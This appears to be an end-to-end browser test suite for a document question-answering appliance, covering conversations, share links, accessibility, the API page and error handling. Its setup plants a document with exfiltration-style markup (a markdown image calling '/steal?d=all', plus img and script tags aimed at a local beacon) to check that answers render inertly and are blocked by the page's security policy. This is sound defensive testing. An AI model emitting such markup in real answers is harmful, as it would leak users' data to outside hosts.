// Conversations and the API's description in a real browser; and that nothing an answer says makes the page call anybody.

import { after, before, test as plainTest } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, mkdirSync, renameSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { createRequire } from "node:module";
import { join } from "node:path";
import { chromium } from "playwright-core";
import { startAppliance, until, within } from "../service/appliance.mjs";

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const shots = process.env.CARREL_SCREENSHOTS;
const STEP_MS = 30_000;

let a, browser, page, reader, beacon;
const calls = []; // at the address that documents name
const outside = [];
const complaints = [];
let lost = "the appliance and the browser did not start";
function test(name, fn) {
  plainTest(name, { timeout: 180_000 }, async () => {
    if (lost !== "") throw new Error(`not tried: ${lost}`);
    await fn();
  });
}

before(async () => {
  beacon = createServer((s) => {
    calls.push(s.remoteAddress);
    s.destroy();
  });
  await new Promise((done) => beacon.listen(0, "127.0.0.1", done));
  const there = `http://127.0.0.1:${beacon.address().port}`;
  a = await startAppliance();
  writeFileSync(join(a.home, ".access.tmp"), "access:\n  - path: hr/**\n    readers: [hr]\n");
  renameSync(join(a.home, ".access.tmp"), join(a.home, "access.yaml"));
  reader = (await a.post("/api/keys", { name: "reader" })).key;
  a.drop("visit.md", "# Visitors\n\nVisitors park their cars behind the solar tower.\n");
  a.drop("kitchen.md", "# Kitchen\n\nThe espresso machine is descaled on the first Monday of every month.\n");
  a.drop("hr/pay.md", "# Pay\n\nThe astronomer's salary is ninety quicksilver crowns a year.\n");
  a.drop("order.txt", `The gargoyle order says: ![picture](${there}/steal?d=all) and [a link](${there}/link) and <img src="${there}/img"> and <script src="${there}/js"></script> stand here.\n`);
  await a.settled({ n: 4 });
  if (!(await (await a.request("/", { key: null })).text()).includes('id="app"')) {
    lost = "serve has no page: run npm ci and npm run build in serve/web";
    throw new Error(lost);
  }
  browser = await chromium.launch({
    timeout: 60_000,
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
  page = await signedIn((await a.post("/api/keys", { name: "hr", groups: ["hr"] })).key);
  lost = "";
});

after(async () => {
  try {
    if (browser) await within(STEP_MS, "the browser closes", browser.close());
  } finally {
    beacon?.close();
    await a?.stop();
  }
});

async function signedIn(key, size = { width: 1280, height: 860 }) {
  const context = await browser.newContext({ viewport: size, colorScheme: "light" });
  context.setDefaultTimeout(STEP_MS);
  const p = await context.newPage();
  p.on("request", (r) => {
    if (!r.url().startsWith(a.url) && !r.url().startsWith("blob:")) outside.push(r.url());
  });
  p.on("console", (m) => {
    if (m.type() === "error" && !/status of 401/.test(m.text())) complaints.push(m.text());
  });
  p.on("pageerror", (e) => complaints.push(String(e)));
  await p.goto(a.url);
  await p.getByRole("button", { name: "Use a key instead" }).click();
  await p.getByLabel("Key").fill(key);
  await p.keyboard.press("Enter");
  await p.getByLabel("Your question").waitFor();
  return p;
}

async function ask(question, on = page) {
  await on.getByLabel("Your question").fill(question);
  await on.keyboard.press("Enter");
  const last = on.locator(".exchange").last();
  await last.locator('.answer-text[aria-busy="false"]').waitFor({ timeout: 60_000 });
  return last;
}

async function shot(name) {
  if (!shots) return;
  mkdirSync(shots, { recursive: true });
  await page.screenshot({ path: join(shots, `${name}.png`) });
}

async function accessible(where, on = page) {
  await within(STEP_MS, "axe loads", on.evaluate(axe));
  const found = await within(60_000, `axe looks at ${where}`, on.evaluate(() => globalThis.axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21aa"] })));
  assert.deepEqual(found.violations.map((v) => `${where}: ${v.id}: ${v.nodes.map((n) => n.html).join(" ")}`), []);
}

const row = (title) => page.locator(".past li", { hasText: title });
const menu = async (title, what) => {
  await row(title).locator("summary").click();
  return row(title).locator(".menu-body > *", { hasText: what });
};

test("what is asked is kept beside, found by its title, opened again and gone on with", async () => {
  await ask("Where do visitors park their cars?");
  await ask("What is the salary of the astronomer?");
  await until("two questions are told", async () => /2 questions/.test(await row("Where do visitors park").innerText().catch(() => "")));
  await page.getByRole("button", { name: "New question" }).click();
  const thumbed = await ask("When is the espresso machine descaled?");
  await thumbed.getByRole("button", { name: "Helpful: this answer", exact: true }).click();
  await thumbed.locator('[aria-label="Helpful: this answer"][aria-pressed="true"]').waitFor();
  await row("When is the espresso").waitFor();
  await shot("conversations");
  await accessible("conversations");
  await page.reload();
  await row("When is the espresso").locator(".past-open").focus();
  await page.keyboard.press("Enter");
  const opened = page.locator(".exchange");
  await opened.first().waitFor();
  assert.equal(await opened.count(), 1);
  assert.match(await opened.first().innerText(), /first Monday of every month/);
  assert.equal(await opened.first().getByRole("button", { name: "Helpful: this answer", exact: true }).getAttribute("aria-pressed"), "true", "what was said of it is seen again");
  await opened.first().locator(".mark").first().click();
  await page.locator(".viewer .text mark").waitFor();
  await page.keyboard.press("Escape");
  const sent = page.waitForRequest((r) => r.url().endsWith("/v1/chat/completions"));
  await ask("And where do visitors park?");
  const body = JSON.parse((await sent).postData());
  assert.equal(body.messages.length, 3, "the conversation goes along");
  await until("it went on", async () => /2 questions/.test(await row("When is the espresso").innerText()));
  await page.getByLabel("Find a conversation by its title").fill("VISITORS PARK");
  await until("only one is left", async () => (await page.locator(".past li").count()) === 1);
  await page.getByLabel("Find a conversation by its title").fill("zzz");
  await page.getByText("No title has these letters.").waitFor();
  await page.getByLabel("Find a conversation by its title").fill("");
  await row("When is the espresso").waitFor();
});

test("it is named, by keyboard, and exported", async () => {
  const summary = row("Where do visitors").locator("summary");
  await summary.focus();
  await page.keyboard.press("Enter");
  await shot("conversation-menu");
  await accessible("the menu of a conversation");
  await page.keyboard.press("Escape");
  assert.equal(await row("Where do visitors").locator("details").getAttribute("open"), null, "Escape closes the menu");
  await (await menu("Where do visitors", "Rename")).click();
  await page.getByLabel("Title of the conversation").fill("Parking and pay");
  await page.keyboard.press("Enter");
  await row("Parking and pay").waitFor();
  const download = page.waitForEvent("download");
  await (await menu("Parking and pay", "Markdown")).click();
  const file = readFileSync(await (await download).path(), "utf8");
  assert.match(file, /^# Parking and pay\n[^]*## What is the salary of the astronomer\?\n\n[^]*quicksilver/);
});

test("a link shows another what he may read, and nothing after it is taken back", async () => {
  await (await menu("Parking and pay", "Share")).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: "Make a link" }).click();
  await dialog.getByText(/works until/).waitFor();
  const link = await dialog.getByLabel("The link", { exact: true }).inputValue();
  assert.match(link, /\/#shared\/[0-9a-f]{64}$/);
  await shot("share");
  await accessible("the window of links");
  const other = await signedIn(reader, { width: 390, height: 800 });
  await other.goto(link);
  await other.getByRole("heading", { name: "Parking and pay" }).waitFor();
  const text = await other.locator("main").innerText();
  assert.match(text, /solar tower/);
  assert.doesNotMatch(text, /quicksilver|astronomer/);
  assert.match(text, /One question with its answer is not shown/);
  if (shots) await other.screenshot({ path: join(shots, "shared-narrow.png") });
  await accessible("a shared conversation", other);
  await other.locator(".mark").first().click();
  await other.locator(".viewer .text mark").waitFor();
  await dialog.getByRole("button", { name: /Take back/ }).click();
  await until("no link is left", async () => (await dialog.locator(".links li").count()) === 0);
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
  await other.reload();
  await other.getByText(/no such link/).waitFor();
  await other.context().close();
});

test("on a narrow screen the conversations are a drawer", async () => {
  await page.setViewportSize({ width: 390, height: 800 });
  const list = page.locator("aside.history");
  assert.equal(await list.isVisible(), false);
  const open = page.getByRole("button", { name: "Conversations", exact: true });
  await open.click();
  assert.equal(await open.getAttribute("aria-expanded"), "true");
  assert.equal(await list.isVisible(), true);
  await shot("conversations-narrow");
  await accessible("the drawer");
  await page.keyboard.press("Escape");
  assert.equal(await list.isVisible(), false);
  await open.click();
  await row("Parking and pay").locator(".past-open").click();
  await page.locator(".exchange").nth(1).waitFor();
  assert.equal(await list.isVisible(), false, "opening one closes it");
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing sticks out");
  await page.emulateMedia({ colorScheme: "dark" });
  await open.click();
  await accessible("the drawer in the dark");
  await page.keyboard.press("Escape");
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 860 });
});

test("an administrator's many tabs fit on a narrow screen", async () => {
  const narrow = await signedIn(a.key, { width: 390, height: 800 });
  assert.ok((await narrow.locator(".top nav a").count()) >= 5);
  for (const name of ["API", "Usage", "People", "Webhooks", "Audit", "Ask"]) {
    await narrow.getByRole("link", { name, exact: true }).click();
    const tab = await narrow.getByRole("link", { name, exact: true }).boundingBox();
    assert.ok(tab.x >= 0 && tab.x + tab.width <= 390, `${name} is in view`);
    assert.ok(await narrow.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `nothing sticks out at ${name}`);
  }
  if (shots) await narrow.screenshot({ path: join(shots, "tabs-narrow.png") });
  await accessible("many tabs", narrow);
  await narrow.context().close();
});

test("an auditor who signed in by name sees what was used, and nothing that would be refused", async () => {
  await a.post("/api/users", { name: "aude", role: "auditor", password: "correct horse battery", must_change_password: false });
  const context = await browser.newContext();
  context.setDefaultTimeout(STEP_MS);
  const p = await context.newPage();
  const refused = [];
  p.on("response", (r) => r.status() === 403 && refused.push(r.url()));
  await p.goto(a.url);
  await p.getByLabel("Name").fill("aude");
  await p.getByLabel("Password").fill("correct horse battery");
  await p.keyboard.press("Enter");
  await p.getByRole("link", { name: "Audit", exact: true }).waitFor();
  assert.deepEqual(await p.locator(".top nav a").allInnerTexts(), ["Usage", "Audit", "Account", "API"]);
  for (const name of ["Audit", "Usage", "Account", "API"]) {
    await p.getByRole("link", { name, exact: true }).click();
    await p.locator("main h1").waitFor();
  }
  assert.deepEqual(refused, []);
  await context.close();
});

test("the API's description is read in the page", async () => {
  await page.getByRole("link", { name: "API" }).click();
  await page.getByText(/^\d\d+ addresses$/).waitFor();
  await page.getByLabel("Find an address").fill("conversations shares id");
  await page.getByText(/^[3-9] addresses$/).waitFor();
  const op = page.locator("details.op", { hasText: "Make a link" });
  await op.locator("summary").first().click();
  await op.getByText("X-CSRF-Token").waitFor();
  assert.match(await op.innerText(), /token\s+string: told this once/);
  await shot("api");
  await accessible("the API's description");
  // found by the name of a field; the only one opens by itself
  await page.getByLabel("Find an address").fill("keep_days");
  const only = page.locator("details.op[open]");
  await only.getByText("admin, manager, editor, reader, service").waitFor();
  assert.match(await only.locator(".shell pre").innerText(), new RegExp(`^curl '${a.url}/api/conversations' \\\\\n {2}-H "Authorization: Bearer \\$CARREL_KEY"$`));
  await only.getByText("What may go wrong").click();
  await only.getByText("invalid_api_key").waitFor();
  await only.getByText("An example").click();
  await only.getByText('"exchanges":').first().waitFor();
  // by who may
  await page.getByLabel("Find an address").fill("");
  const all = await page.locator("details.op").count();
  await page.getByLabel("Who may call it").selectOption("auditor");
  await page.waitForFunction((n) => document.querySelectorAll("details.op").length < n, all);
  assert.equal(await page.locator("details.op", { hasText: "/v1/chat/completions" }).count(), 0);
  assert.equal(await page.locator("details.op", { hasText: "/api/audit/verify" }).count(), 1);
  await page.getByLabel("Find an address").fill("no such words");
  await page.getByText("No address has all these words.").waitFor();
  await page.getByLabel("Who may call it").selectOption("");
  await page.getByLabel("Find an address").fill("POST /api/search");
  await page.setViewportSize({ width: 360, height: 740 });
  await page.emulateMedia({ colorScheme: "dark" });
  await page.locator("details.op", { hasText: "The passages that say most" }).evaluate((d) => (d.open = true));
  assert.match(await page.locator("details.op[open] .shell pre").innerText(), /-d '\{"query":/);
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing sticks out");
  await accessible("the API's description in the dark, narrow");
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 860 });
  await page.getByLabel("Find an address").fill("");
});

test("a question that fails says why in plain words and can be asked again", async () => {
  const p = await signedIn(reader);
  const chat = "**/v1/chat/completions";
  const question = "Where do visitors park their cars?";
  const tell = (r) => r.fulfill({ status: 429, contentType: "application/json", body: '{"error":{"message":"30 requests a minute are used up: try again in 17 s.","type":"rate_limit_error","param":null,"code":"rate_limit_exceeded"}}' });
  const before = complaints.length;
  for (const [how, said] of [
    [tell, "30 requests a minute are used up"],
    [(r) => r.abort(), "The appliance does not answer. Is it running?"],
    [(r) => r.fulfill({ status: 200, contentType: "text/event-stream", body: 'data: {"choices":[{"delta":{"content":"Half"}}]}\n\n' }), "The answer broke off before its end."],
  ]) {
    await p.route(chat, how);
    if ((await p.getByRole("button", { name: "Ask again" }).count()) > 0) await p.getByRole("button", { name: "Ask again" }).click();
    else {
      await p.getByLabel("Your question").fill(question);
      await p.keyboard.press("Enter");
    }
    await p.locator(".foot.failed", { hasText: said }).waitFor();
    await p.locator("[role=status], [aria-live]", { hasText: said }).first().waitFor({ state: "attached" });
    assert.equal(await p.locator(".exchange").count(), 1, "the question stands there once");
    await p.unroute(chat);
  }
  await p.getByLabel("Your question").fill("what I was typing");
  await p.getByRole("button", { name: "Ask again" }).click();
  await p.locator(".answer-text", { hasText: "solar tower" }).waitFor();
  assert.equal(await p.locator(".exchange").count(), 1);
  assert.equal(await p.getByLabel("Your question").inputValue(), "what I was typing");
  complaints.splice(before); // the browser tells of failed requests by itself
  await p.context().close();
});

test("who was signed out elsewhere is told so, and what runs right to left does", async () => {
  a.drop("ijaza.md", "# الإجازة السنوية\n\nيحق لكل موظف ثمانية وعشرون يوما من الإجازة السنوية المدفوعة الأجر.\n");
  await until("it is found", async () => (await a.search("الإجازة السنوية")).some((x) => x.document.path === "ijaza.md"));
  const p = await signedIn(reader);
  await p.getByLabel("Your question").fill("كم يوما من الإجازة السنوية؟");
  await p.keyboard.press("Enter");
  await p.locator(".answer-text .mark").first().waitFor();
  const side = (selector) => p.locator(selector).first().evaluate((e) => {
    const r = document.createRange();
    r.selectNodeContents(e);
    const text = r.getBoundingClientRect(), box = e.getBoundingClientRect();
    return box.right - text.right < text.left - box.left ? "right" : "left";
  });
  assert.equal(await side(".exchange .question"), "right");
  assert.equal(await side(".exchange .answer-text p"), "right");
  await accessible("an answer that runs right to left", p);
  await p.context().clearCookies();
  await p.getByLabel("Your question").fill("And now?");
  await p.keyboard.press("Enter");
  await p.getByText("You were signed out").waitFor();
  await p.context().close();
});

test("what an answer says makes the page call nobody: no picture, no link, no script", async () => {
  await page.getByRole("link", { name: "Ask" }).click();
  await page.getByRole("button", { name: "New question" }).click();
  const exchange = await ask("What does the gargoyle order say?");
  const text = exchange.locator(".answer-text");
  assert.match(await text.innerText(), /!\[picture\]\(http:/, "it is text");
  assert.equal(await text.locator("img, a, script, iframe, object, svg image").count(), 0);
  await exchange.locator(".mark").first().click();
  await page.locator(".viewer .text mark").waitFor();
  assert.equal(await page.locator(".viewer .viewer-body").locator("img, a[href^=http], script").count(), 0);
  await page.keyboard.press("Escape");
  // and were it markup, the browser would not go: the page's policy
  const there = `http://127.0.0.1:${beacon.address().port}`;
  const blocked = await page.evaluate(
    (to) =>
      new Promise((done) => {
        const seen = [];
        document.addEventListener("securitypolicyviolation", (e) => {
          seen.push(e.effectiveDirective);
          if (seen.length === 3) done(seen.sort());
        });
        document.body.append(Object.assign(new Image(), { src: `${to}/img` }));
        document.body.append(Object.assign(document.createElement("script"), { src: `${to}/js` }));
        fetch(`${to}/fetch`).catch(() => undefined);
      }),
    there,
  );
  assert.deepEqual(blocked, ["connect-src", "img-src", "script-src-elem"]);
  assert.deepEqual(calls, []);
});

test("deleting asks first; erasing all leaves none", async () => {
  await (await menu("Parking and pay", "Delete")).click();
  await page.getByRole("dialog").getByRole("button", { name: "Cancel" }).click();
  await row("Parking and pay").waitFor();
  await (await menu("Parking and pay", "Delete")).click();
  await accessible("the question before deleting");
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await row("Parking and pay").waitFor({ state: "detached" });
  await page.getByRole("button", { name: "Erase all" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Erase all" }).click();
  await page.getByText(/is kept here for 90 days/).waitFor();
  assert.equal(await page.locator(".exchange").count(), 0);
});

test("nothing came from elsewhere, and the browser had nothing to complain about", () => {
  const there = `http://127.0.0.1:${beacon.address().port}`;
  assert.deepEqual(outside.filter((u) => !u.startsWith(there)), []);
  assert.deepEqual(complaints.filter((c) => !c.includes("Content Security Policy") && !c.includes("404")), []);
});
